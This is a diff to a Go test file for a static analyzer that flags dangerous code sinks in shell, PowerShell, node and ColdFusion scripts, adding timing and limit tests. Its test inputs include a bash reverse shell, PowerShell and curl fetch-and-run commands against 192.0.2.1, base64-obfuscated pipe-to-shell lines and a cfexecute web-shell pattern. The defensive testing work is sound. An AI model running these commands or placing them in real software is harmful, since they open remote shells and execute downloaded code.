@@ -2,9 +2,13 @@ package script
 
 import (
 	"encoding/base64"
+	"errors"
+	"fmt"
 	"strings"
 	"testing"
 	"time"
+
+	"github.com/seed-181f3109/assay/fstree"
 )
 
 // fields returns the sink lines of code as "sink name arg aux via".
@@ -56,6 +60,7 @@ func TestSinkLines(t *testing.T) {
 		{"node", "require('vm');\neval(Buffer.from('" + b64([]byte("process.exit(0) // inert")) + "', 'base64').toString());\n", "code eval decoded - direct"},
 		{"powershell", "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/x')\n", "network downloadstring constant - direct|code iex network - direct"},
 		{"cfm", `<cfexecute name="cmd.exe" arguments="/c #form.c#" timeout="9"></cfexecute>`, "command cfexecute part-request:* - direct"},
+		{"cfm", "<cfexecute\tname=\"cmd.exe\" arguments=\"/c #form.c#\" timeout=\"9\"></cfexecute>", "command cfexecute part-request:* - direct"},
 		{"shell", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n", "network dev-tcp constant - direct|command bash-interactive socket - direct"},
 		{"shell", "echo " + b64([]byte("curl http://192.0.2.1/x | sh")) + " | base64 -d | bash\n", "code pipe-shell network - direct|code pipe-shell decoded - direct"},
 		{"shell", "a=cur; b=l; $a$b http://192.0.2.1/x|sh\n", "code pipe-shell network - computed:other"},
@@ -145,6 +150,45 @@ func TestHostile(t *testing.T) {
 	Analyze(t.Context(), "shell", []byte("eval x\n"+rep("a=$a$a$a$a; ", 20_000)+"\n"+rep("a=$a$a;\n", 20_000)))
 	if d := time.Since(start); d > 15*time.Second {
 		t.Errorf("shell took %v", d)
+	}
+}
+
+// TestOpeningsWithoutEnd has millions of tags that are opened and never closed.
+func TestOpeningsWithoutEnd(t *testing.T) {
+	for _, c := range []struct{ kind, code string }{
+		{"aspx", "<script "}, {"aspx", "<script>"}, {"asp", "<script runat"}, {"cfm", "<cf"}, {"cfm", "<cfset "}, {"cfm", "<cfscript>"}, {"cfm", "<cfexecute name="}, {"cfm", "<cfset #"},
+	} {
+		start := time.Now()
+		Analyze(t.Context(), c.kind, []byte(strings.Repeat(c.code, 4<<20/len(c.code))+">server.execute cfexecute"))
+		if d := time.Since(start); d > 15*time.Second {
+			t.Errorf("%s: %s took %v", c.kind, c.code, d)
+		}
+	}
+}
+
+// TestLongShellLine holds that a line that is not read is reported.
+func TestLongShellLine(t *testing.T) {
+	r := Analyze(t.Context(), "shell", []byte("x="+strings.Repeat("a", 1<<20)+"; eval $(echo x | base64 -d)\necho a | base64 -d | sh\n"))
+	if !errors.Is(r.Err, fstree.ErrLimit) || r.Sinks == nil {
+		t.Errorf("got %v, %q, want ErrLimit and the lines behind it", r.Err, r.Sinks)
+	}
+}
+
+// TestManyDecoded has the text that counts behind many others, and more texts than
+// are kept.
+func TestManyDecoded(t *testing.T) {
+	b64 := base64.StdEncoding.EncodeToString
+	for kind, form := range map[string]string{"shell": "echo %s | base64 -d | sh; ", "python": "exec(base64.b64decode('%s'))\n"} {
+		for n, limited := range map[int]bool{100: false, maxDecoded + 1: true} {
+			code := "import base64\n"
+			for i := range n {
+				code += fmt.Sprintf(form, b64(fmt.Appendf(nil, "inert text number %d", i)))
+			}
+			r := Analyze(t.Context(), kind, []byte(code))
+			if len(r.Decoded) != min(n, maxDecoded) || errors.Is(r.Err, fstree.ErrLimit) != limited {
+				t.Errorf("%s, %d texts: got %d, %v", kind, n, len(r.Decoded), r.Err)
+			}
+		}
 	}
 }
 
